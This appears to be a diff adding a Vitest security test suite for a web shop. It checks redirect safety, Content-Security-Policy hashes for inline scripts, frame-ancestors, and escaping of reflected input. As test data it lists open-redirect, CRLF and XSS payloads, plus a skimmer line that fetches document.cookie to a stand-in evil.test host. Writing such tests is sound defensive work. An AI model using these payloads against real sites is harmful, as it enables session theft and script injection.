@@ -1,0 +1,245 @@
+import { createHash } from 'node:crypto'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
+import { openPageShop, type PageShop } from './page-shop-suite.ts'
+
+let shop: PageShop
+beforeAll(async () => {
+  vi.spyOn(console, 'warn').mockImplementation(() => undefined)
+  vi.spyOn(console, 'error').mockImplementation(() => undefined)
+  shop = await openPageShop()
+})
+beforeEach(() => shop.cache.clear())
+afterEach(() => void shop.disturb(undefined))
+afterAll(async () => {
+  await shop.close()
+  vi.restoreAllMocks()
+})
+
+const here = 'http://shop.test'
+
+/** Other hosts, as they are written by those who want a shopper to end there. */
+const elsewhere = [
+  '/evil.test',
+  '//evil.test',
+  '///evil.test',
+  '\\evil.test',
+  '/\\evil.test',
+  '\\\\evil.test',
+  '%5Cevil.test',
+  '%5C%5Cevil.test',
+  '%2Fevil.test',
+  '%2F%2Fevil.test',
+  '%252F%252Fevil.test',
+  '%09/evil.test',
+  '%0A/evil.test',
+  '%0D%0ALocation:https://evil.test',
+  '%0d%0aSet-Cookie:a=1',
+  '%20//evil.test',
+  '%00//evil.test',
+  'https:/evil.test',
+  'https://evil.test',
+  'https:%5C%5Cevil.test',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java%0ascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:x',
+  '@evil.test',
+  '.evil.test',
+  ';//evil.test',
+  '?//evil.test',
+  '..//evil.test',
+  'x/..//evil.test',
+  'x/%2e%2e//evil.test',
+  '%E2%80%A8/evil.test',
+  '%EF%BC%8F%EF%BC%8Fevil.test',
+  '%E3%80%82evil.test',
+  'evil%E3%80%82test',
+  '%D1%82%D0%B5%D1%81%D1%82',
+  '%C0%AF%C0%AFevil.test',
+]
+
+/** True when a browser that gets this location stays in the shop; it reads backslashes and tabs in its own way. */
+const isHere = (location: string | undefined, from = '/') =>
+  location === undefined || URL.parse(location, new URL(from, here))?.origin === here
+
+describe('ATT-16: redirects stay in the shop', () => {
+  // Every place where a page redirects: prefix of the default store, pages of other stores, mapping, slugs, trailing parts.
+  const sources = ['/et/', '/et//', '/', '//', '/en/', '/ru/', '/en/p/CABLE/', '/en/c/', '/meist/', '/en/et/']
+  const suffixes = ['/', '.data', '?url=//evil.test&returnUrl=//evil.test&next=//evil.test']
+  it.each(sources)('from %s whatever follows', async (source) => {
+    const wrong: string[] = []
+    for (const [index, tail] of elsewhere.entries())
+      for (const suffix of ['', suffixes[index % suffixes.length] ?? '']) {
+        const target = encodeTarget(source + tail + suffix)
+        const { status, headers, body } = await shop.send(target)
+        // Redirects inside data are read by the router, which follows them as they stand.
+        const inData = /"SingleFetchRedirect"[^\]]*?"(\/[^"]*)"/.exec(body.toString())?.[1]
+        const isWrong = status >= 500 || headers['set-cookie'] || !isHere(headers.location, target)
+        if (isWrong || !isHere(inData && JSON.parse(`"${inData}"`)))
+          wrong.push(`${target} ${status} ${headers.location}`)
+      }
+    expect(wrong).toEqual([])
+  })
+
+  it.each(['category', 'product', 'cms_page'])(
+    'when the mapping of addresses answers a hostile %s',
+    async (type) => {
+      const wrong: string[] = []
+      for (const text of elsewhere.map(decoded)) {
+        const source = { sku: text, slug: text, identifier: text, parentSku: text }
+        shop.disturb({
+          after: ({ name }, document) =>
+            name === 'urlMap' ? { code: 200, result: { _type: type, _source: source } } : document,
+        })
+        const { headers } = await shop.send('/en/an-old-address')
+        if (!isHere(headers.location, '/en/an-old-address')) wrong.push(`${text}: ${headers.location}`)
+      }
+      expect(wrong).toEqual([])
+    },
+  )
+
+  it('after a form was taken', async () => {
+    for (const path of ['/en/newsletter', '//evil.test/newsletter', '/et//evil.test']) {
+      const { headers } = await shop.send(path, { method: 'POST', headers: { origin: 'https://evil.test' } })
+      expect(isHere(headers.location)).toBe(true)
+    }
+  })
+
+  it('when a payment provider sends the browser back', async () => {
+    for (const path of ['/api/neopay/return', '/api/mokilizingas/return'])
+      for (const name of ['returnUrl', 'url', 'token', 'data', 'appl_token', 'order_id', 'status_url']) {
+        const { headers } = await shop.send(`${path}?${name}=//evil.test`)
+        expect(isHere(headers.location)).toBe(true)
+      }
+  })
+
+  it('keeps the parameters of campaigns on the way', async () => {
+    const { status, headers } = await shop.send('/en/p/CABLE/old-name?utm_source=mail')
+    expect([status, headers.location]).toEqual([301, '/en/p/CABLE/cable?utm_source=mail'])
+  })
+})
+
+/** What a request line may hold: signs that it may not are sent as a browser would. */
+const encodeTarget = (target: string) => target.replace(/[\s<>"]/g, (sign) => encodeURIComponent(sign))
+
+function decoded(text: string): string {
+  try {
+    return decodeURIComponent(text)
+  } catch {
+    return text
+  }
+}
+
+const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
+const policyOf = (headers: Record<string, unknown>) => String(headers['content-security-policy'])
+const inlineScripts = (html: string) =>
+  [...html.matchAll(/<script(?![^>]*(?:ld\+json|src=))[^>]*>([\s\S]*?)<\/script>/g)].map(
+    ([, code = '']) => code,
+  )
+
+/** Elements and attributes that no page of the shop has; what stands in its own scripts and in values is text. */
+function foreignTags(html: string): string[] {
+  const tags = html.replace(/<script[^>]*>[\s\S]*?<\/script>/g, '').match(/<[!a-z/][^>]*>?/gi) ?? []
+  return tags.filter((tag) => {
+    const names = tag.replace(/="[^"]*"/g, '=""')
+    const isForeign = /^<(?:!--(?![/$&]|.?-->)|mglyph|math|svg\/|script)|\son\w+\s*=|=(?!"")/i.test(names)
+    return isForeign || /\s(?:href|src|action|formaction)="\s*(?:javascript|data|vbscript):/i.test(tag)
+  })
+}
+
+const pages = [
+  '/en',
+  '/en/c/phones',
+  '/en/p/CABLE/cable',
+  '/en/about-us',
+  '/en/checkout',
+  '/en/nothing',
+  '/en/error',
+]
+
+describe('ATT-23: code that the server did not write', () => {
+  const skimmer = 'fetch("//evil.test/"+document.cookie)'
+
+  it.each(pages)('of the page %s all inline code is named by its policy, and nothing more', async (page) => {
+    const { headers, body } = await shop.send(page)
+    const scripts = inlineScripts(body.toString())
+    expect(scripts.length).toBeGreaterThan(3)
+    const named = /script-src ([^;]*)/.exec(policyOf(headers))?.[1]?.split(' ') ?? []
+    expect(new Set(named)).toEqual(new Set(["'self'", ...scripts.map(hashOf)]))
+    const [style = ''] = /(?<=<style[^>]*>)[\s\S]*?(?=<\/style>)/.exec(body.toString()) ?? []
+    expect(policyOf(headers)).toContain(`style-src 'self' ${hashOf(style)};`)
+  })
+
+  it.each([
+    ['a page of content', '/en/about-us', 'content'],
+    ['a description', '/en/p/CABLE/cable', 'description'],
+  ])('in %s gets no hash, though no sanitiser stopped it', async (_what, page, field) => {
+    const html = `<p>x</p><script>${skimmer}</script><style>${skimmer}</style>`
+    shop.disturb({ after: (_call, document) => withField(document, field, html) })
+    const { headers, body } = await shop.send(page)
+    expect(body.toString()).toContain(`<script>${skimmer}</script>`)
+    expect(policyOf(headers)).not.toContain(hashOf(skimmer))
+    // What the shop writes still runs.
+    expect(policyOf(headers).match(/'sha256-/g)?.length).toBeGreaterThan(4)
+  })
+})
+
+/** The document with this field of every object in it replaced. */
+function withField(document: unknown, field: string, html: string): unknown {
+  return JSON.parse(JSON.stringify(document), (key, value) =>
+    key === field && typeof value === 'string' ? html : value,
+  )
+}
+
+describe('ATT-18: framing', () => {
+  it.each([...pages, '/en/order-completed', '/en/my-account'])('of %s is forbidden', async (page) => {
+    const { headers } = await shop.send(page)
+    expect(policyOf(headers)).toContain("frame-ancestors 'none'")
+  })
+})
+
+describe('ATT-4: what an address reflects', () => {
+  const payloads = [
+    '"><script>alert(1)</script>',
+    "'-alert(1)-'",
+    '</title><script>alert(1)</script>',
+    '</script><script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '"onmouseover="alert(1)',
+    '<!--<script>',
+    ']]><script>alert(1)</script>',
+    '\u2028alert(1)',
+    '{{constructor.constructor("alert(1)")()}}',
+    '${alert(1)}',
+    'javascript:alert(1)',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '%3Cscript%3Ealert(1)%3C/script%3E',
+    '<svg/onload=alert(1)>',
+    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  ]
+  it.each([
+    (text: string) => `/en/search?q=${text}`,
+    (text: string) => `/en/compare?items=${text}`,
+    (text: string) => `/en/${text}`,
+    (text: string) => `/en/c/${text}`,
+    (text: string) => `/en/p/${text}/${text}`,
+    (text: string) => `/en/i/${text}`,
+    (text: string) => `/en/c/phones?${text}=${text}&sort=${text}&price=${text}&color=${text}`,
+    (text: string) => `/en/offline?to=${text}`,
+    (text: string) => `/en/newsletter/${text}/${text}`,
+    (text: string) => `/en/search/suggest?q=${text}`,
+  ])('is text in the page: %s', async (addressOf) => {
+    const wrong: unknown[] = []
+    for (const payload of payloads) {
+      const target = addressOf(encodeURIComponent(payload))
+      const { headers, body, status } = await shop.send(target)
+      if (status >= 500) wrong.push(`${target}: ${status}`)
+      if (!String(headers['content-type']).startsWith('text/html')) continue
+      const html = body.toString()
+      const unnamed = inlineScripts(html).filter((code) => !policyOf(headers).includes(hashOf(code)))
+      wrong.push(...unnamed, ...foreignTags(html))
+    }
+    expect(wrong).toEqual([])
+  })
+})
